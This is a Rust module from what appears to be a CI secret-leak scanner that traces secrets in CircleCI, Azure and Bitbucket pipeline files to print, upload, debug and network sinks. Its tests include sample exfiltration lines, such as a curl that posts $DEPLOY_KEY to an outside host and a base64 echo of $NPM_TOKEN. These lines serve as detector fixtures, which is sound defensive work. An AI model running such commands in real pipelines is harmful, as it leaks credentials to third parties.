//! The lighter CI systems, for their secret references and print/upload sinks:
//! CircleCI (`.circleci/config.yml`: `environment`, `run`, `store_artifacts`, `save_cache`),
//! Azure Pipelines (`azure-pipelines.yml`: `variables`, `system.debug`, `script`/`bash`/
//! `powershell` steps with `env`, `$(macro)` expansion, artifact publishing) and Bitbucket
//! Pipelines (`bitbucket-pipelines.yml`: `step` scripts, `artifacts`, `pipe` variables).
use super::flow::{dollar_vars, Binding, Ctx, Env, Out};
use super::yaml::Node;
use super::{Ci, Repo, Sink};

pub(crate) fn flows(repo: &Repo, out: &mut Out) {
    for path in repo.paths {
        let ci = match path.as_str() {
            ".circleci/config.yml" | ".circleci/config.yaml" => Ci::Circleci,
            "azure-pipelines.yml" | "azure-pipelines.yaml" | ".azure-pipelines.yml" => Ci::AzurePipelines,
            "bitbucket-pipelines.yml" => Ci::BitbucketPipelines,
            _ => continue,
        };
        let Some(doc) = repo.yaml(path) else { continue };
        let ctx = Ctx {
            ci,
            file: path,
            job: None,
            step: None,
            fork: false,
            store_vars: true,
            store_ref: ("$", ""),
        };
        match ci {
            Ci::Circleci => circleci(&ctx, &doc, out),
            Ci::AzurePipelines => azure(&Ctx { store_ref: ("$(", ")"), ..ctx }, &doc, &Env::new(), out),
            _ => bitbucket(&ctx, &doc, out),
        }
    }
}

/// `K: v` entries over `base`: `$Y` references resolve, other values are literals.
fn env_entries(
    ctx: &Ctx,
    out: &mut Out,
    pairs: Vec<(String, String, u64)>,
    base: &Env,
    section: &str,
) -> Env {
    let mut env = base.clone();
    for (name, value, line) in pairs {
        let what = format!("{section}.{name}");
        let refs = dollar_vars(&value);
        let bs: Vec<Binding> = if !refs.is_empty() {
            refs.iter()
                .flat_map(|r| ctx.lookup(&env, r, line))
                .map(|b| b.then(ctx.hop(what.clone(), line)))
                .collect()
        } else if value.trim().is_empty() {
            continue;
        } else {
            vec![ctx.literal(out, line, what)]
        };
        env.insert(name, bs);
    }
    env
}

fn circleci(base: &Ctx, doc: &Node, out: &mut Out) {
    for job in doc.get("jobs").map_or(&[][..], Node::entries) {
        let ctx = Ctx { job: Some(job.key.clone()), ..base.clone() };
        let env = env_entries(
            &ctx,
            out,
            job.value.get("environment").map(Node::pairs).unwrap_or_default(),
            &Env::new(),
            "environment",
        );
        let mut written = Env::new();
        for step in job.value.get("steps").map_or(&[][..], Node::items) {
            if let Some(run) = step.get("run") {
                let command = run.get("command").unwrap_or(run);
                let name = run.get("name").and_then(Node::str).map(str::to_string);
                let ctx = Ctx { step: name, ..ctx.clone() };
                let env = env_entries(
                    &ctx,
                    out,
                    run.get("environment").map(Node::pairs).unwrap_or_default(),
                    &env,
                    "environment",
                );
                if let Some(text) = command.str() {
                    ctx.script(out, &env, &mut written, text, command.line);
                }
            }
            if let Some(a) = step.get("store_artifacts") {
                let paths = a.get("path").map(Node::strings).unwrap_or_default();
                ctx.upload(out, &written, &paths, Sink::ArtifactUpload, "store_artifacts");
            }
            if let Some(c) = step.get("save_cache") {
                let paths = c.get("paths").map(Node::strings).unwrap_or_default();
                ctx.upload(out, &written, &paths, Sink::CacheUpload, "save_cache");
            }
        }
    }
}

/// Azure variables: a map, or a list of `{name, value}` (groups are not in the repository).
fn azure_variables(ctx: &Ctx, out: &mut Out, node: Option<&Node>, base: &Env) -> Env {
    let Some(node) = node else { return base.clone() };
    let pairs = if node.items().is_empty() {
        node.pairs()
    } else {
        node.items()
            .iter()
            .filter_map(|i| {
                Some((i.get("name")?.str()?.to_string(), i.get("value")?.str()?.to_string(), i.line))
            })
            .collect()
    };
    if pairs.iter().any(|(n, v, _)| n.eq_ignore_ascii_case("system.debug") && v.eq_ignore_ascii_case("true"))
    {
        let line =
            pairs.iter().find(|(n, ..)| n.eq_ignore_ascii_case("system.debug")).map_or(node.line, |p| p.2);
        ctx.dump(out, line, Sink::StepDebug, Sink::StepDebug.base(), base, "system.debug: true");
    }
    let pairs = pairs.into_iter().filter(|(n, ..)| !n.eq_ignore_ascii_case("system.debug")).collect();
    env_entries(ctx, out, pairs, base, "variables")
}

/// Stages, jobs and steps at any depth; `job:`/`deployment:` names the job.
fn azure(ctx: &Ctx, node: &Node, env: &Env, out: &mut Out) {
    let name = node.get("job").or_else(|| node.get("deployment")).and_then(Node::str);
    let ctx = Ctx { job: name.map(str::to_string).or_else(|| ctx.job.clone()), ..ctx.clone() };
    let env = azure_variables(&ctx, out, node.get("variables"), env);
    let mut written = Env::new();
    for step in node.get("steps").map_or(&[][..], Node::items) {
        let script = ["script", "bash", "powershell", "pwsh"].iter().find_map(|k| step.get(k));
        let label = step.get("displayName").and_then(Node::str).map(str::to_string);
        let sctx = Ctx { step: label, ..ctx.clone() };
        // Secrets reach a step only through an explicit `env:` mapping or a `$(macro)`.
        let senv = env_entries(
            &sctx,
            out,
            azure_macros(step.get("env").map(Node::pairs).unwrap_or_default()),
            &env,
            "env",
        );
        if let Some(text) = script.and_then(|s| s.str()) {
            let line = script.map_or(step.line, |s| s.line);
            sctx.script(out, &senv, &mut written, &macros_as_vars(text), line);
        }
        let task = step.get("task").and_then(Node::str).unwrap_or_default();
        let publish = step.get("publish").map(Node::strings).unwrap_or_default();
        let inputs = step.get("inputs");
        let mut paths = publish;
        if task.starts_with("PublishPipelineArtifact") || task.starts_with("PublishBuildArtifacts") {
            for k in ["targetPath", "path", "PathtoPublish"] {
                paths.extend(inputs.and_then(|i| i.get(k)).map(Node::strings).unwrap_or_default());
            }
        }
        sctx.upload(out, &written, &paths, Sink::ArtifactUpload, "publish artifact");
    }
    for key in ["stages", "jobs"] {
        for child in node.get(key).map_or(&[][..], Node::items) {
            azure(&ctx, child, &env, out);
        }
    }
}

/// `env: {TOKEN: $(token)}`: Azure macros written as `${X}` for [`env_entries`].
fn azure_macros(pairs: Vec<(String, String, u64)>) -> Vec<(String, String, u64)> {
    pairs.into_iter().map(|(k, v, l)| (k, macros_as_vars(&v), l)).collect()
}

/// `$(name)` macros (expanded by Azure before the script runs) as `${name}`, leaving
/// command substitutions such as `$(date +%s)` alone.
fn macros_as_vars(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("$(") {
        out.push_str(&rest[..at]);
        let after = &rest[at + 2..];
        match after.find(')') {
            Some(end)
                if !after[..end].is_empty()
                    && after[..end].chars().all(|c| c.is_ascii_alphanumeric() || c == '_') =>
            {
                out.push_str(&format!("${{{}}}", &after[..end]));
                rest = &after[end + 1..];
            }
            _ => {
                out.push_str("$(");
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

fn bitbucket(base: &Ctx, doc: &Node, out: &mut Out) {
    let mut steps = Vec::new();
    if let Some(p) = doc.get("pipelines") {
        collect_steps(p, &mut steps);
    }
    for step in steps {
        let name = step.get("name").and_then(Node::str).map(str::to_string);
        let ctx = Ctx { job: name, ..base.clone() };
        let mut written = Env::new();
        for item in step.get("script").map_or(&[][..], Node::items) {
            if let Some(text) = item.str() {
                ctx.script(out, &Env::new(), &mut written, text, item.line);
            } else if let Some(pipe) = item.get("pipe").and_then(Node::str) {
                let vars = env_entries(
                    &ctx,
                    out,
                    item.get("variables").map(Node::pairs).unwrap_or_default(),
                    &Env::new(),
                    "variables",
                );
                for b in vars.values().flatten() {
                    ctx.emit(
                        out,
                        item.line,
                        Sink::UnpinnedAction,
                        b,
                        ctx.hop(format!("pipe {pipe}"), item.line),
                    );
                }
            }
        }
        let artifacts =
            step.get("artifacts").map(|a| a.get("paths").unwrap_or(a).strings()).unwrap_or_default();
        ctx.upload(out, &written, &artifacts, Sink::ArtifactUpload, "artifacts");
    }
}

/// Every `step:` under `pipelines`, in document order.
fn collect_steps<'a>(node: &'a Node, steps: &mut Vec<&'a Node>) {
    if let Some(step) = node.get("step") {
        steps.push(step);
        return;
    }
    for e in node.entries() {
        collect_steps(&e.value, steps);
    }
    for i in node.items() {
        collect_steps(i, steps);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::egress::yaml::parse;

    fn run(ci: Ci, text: &str) -> Vec<(u64, Sink, String)> {
        let doc = parse(text).expect("parses");
        let ctx = Ctx {
            ci,
            file: "f.yml",
            job: None,
            step: None,
            fork: false,
            store_vars: true,
            store_ref: ("$", ""),
        };
        let mut out = Out::default();
        match ci {
            Ci::Circleci => circleci(&ctx, &doc, &mut out),
            Ci::AzurePipelines => azure(&Ctx { store_ref: ("$(", ")"), ..ctx }, &doc, &Env::new(), &mut out),
            _ => bitbucket(&ctx, &doc, &mut out),
        }
        out.flows.iter().map(|f| (f.line, f.sink, f.chain[0].what.clone())).collect()
    }

    #[test]
    fn circleci_run_and_artifacts() {
        let got = run(Ci::Circleci, "jobs:\n  build:\n    steps:\n      - run: echo $NPM_TOKEN | base64\n      - store_artifacts:\n          path: config\n");
        assert_eq!(
            got,
            [(4, Sink::TransformedPrint, "$NPM_TOKEN".into()), (6, Sink::ArtifactUpload, "config".into())]
        );
    }

    #[test]
    fn azure_macro_debug_and_setvariable() {
        let got = run(
            Ci::AzurePipelines,
            "variables:\n  system.debug: true\nsteps:\n  - script: echo \"##vso[task.setvariable variable=T]$(API_TOKEN)\"\n",
        );
        assert!(got.contains(&(2, Sink::StepDebug, "system.debug: true".into())), "{got:?}");
        assert!(got.contains(&(4, Sink::EnvPropagation, "$(API_TOKEN)".into())), "{got:?}");
    }

    #[test]
    fn bitbucket_steps_and_pipes() {
        let got = run(
            Ci::BitbucketPipelines,
            "pipelines:\n  default:\n    - step:\n        script:\n          - curl -d \"$DEPLOY_KEY\" https://x.example.net\n          - pipe: atlassian/aws-s3-deploy:1.1.0\n            variables:\n              AWS_SECRET_ACCESS_KEY: $AWS_SECRET_ACCESS_KEY\n",
        );
        assert_eq!(got[0], (5, Sink::NetworkSend, "$DEPLOY_KEY".into()));
        assert_eq!(got[1].1, Sink::UnpinnedAction);
    }
}
